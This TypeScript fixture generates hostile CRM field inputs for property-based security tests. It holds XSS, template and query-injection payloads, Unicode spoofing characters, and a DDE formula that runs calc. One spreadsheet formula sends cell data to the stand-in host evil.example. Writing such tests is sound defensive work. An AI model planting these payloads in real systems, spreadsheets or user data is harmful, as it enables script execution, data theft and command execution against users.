import fc from 'fast-check';

/** Texts an attacker may put into a field of a CRM: markup, addresses that run, formulas, queries, characters nobody sees. */
export const HOSTILE = [
  '<script>globalThis.__canary = 1</script>',
  '<img src=x onerror="globalThis.__canary=1">',
  '"><svg/onload=globalThis.__canary=1>',
  '<iframe srcdoc="<script>parent.__canary=1</script>"></iframe>',
  '<a href="javascript:globalThis.__canary=1">Dana Reyes</a>',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  'javascript:globalThis.__canary=1',
  'data:text/html,<script>globalThis.__canary=1</script>',
  'vbscript:msgbox(1)',
  '{{constructor.constructor("globalThis.__canary=1")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the trick is the text itself.
  '${globalThis.__canary=1}',
  '{account}{amount}',
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '@SUM(1+1)*cmd',
  "' OR Name LIKE '%",
  "\\' OR Id != null --",
  'FIND {x} RETURNING Contact',
  '} RETURNING User(Id, Email',
  '\u202eseyeR anaD\u202c',
  'Dana\u200b Rey\u200des',
  '\u2066\u2067\u2068Dana\u2069',
  'D\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308ana',
  '\u{e0041}\u{e0042}Dana',
  'Dana\u0000Reyes\u001b[31m',
  '\ud800 alone',
  '__proto__',
  'constructor',
  'toString',
  'x'.repeat(5_000),
] as const;

export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
  {
    weight: 1,
    arbitrary: fc.tuple(fc.constantFrom(...HOSTILE), fc.constantFrom(...HOSTILE)).map((two) => two.join(' ')),
  },
);
